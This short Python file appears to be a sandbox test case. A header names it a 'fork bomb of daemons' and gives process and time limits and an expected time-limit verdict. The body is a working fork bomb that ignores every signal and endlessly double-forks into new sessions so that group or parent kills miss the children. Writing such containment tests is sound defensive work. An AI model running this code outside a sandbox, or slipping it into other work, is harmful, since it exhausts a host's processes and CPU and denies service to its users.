# SPDX-License-Identifier: MIT
# title: fork bomb of daemons
# tries: new sessions, double forks and ignored signals, so that no kill by group or parent finds the children
# limits: processes=40 wallMs=1200 cpuMs=1200
# verdict: wall_time_limit | cpu_time_limit
import os, signal
for s in range(1, 65):
    try:
        signal.signal(s, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
    except OSError:
        pass
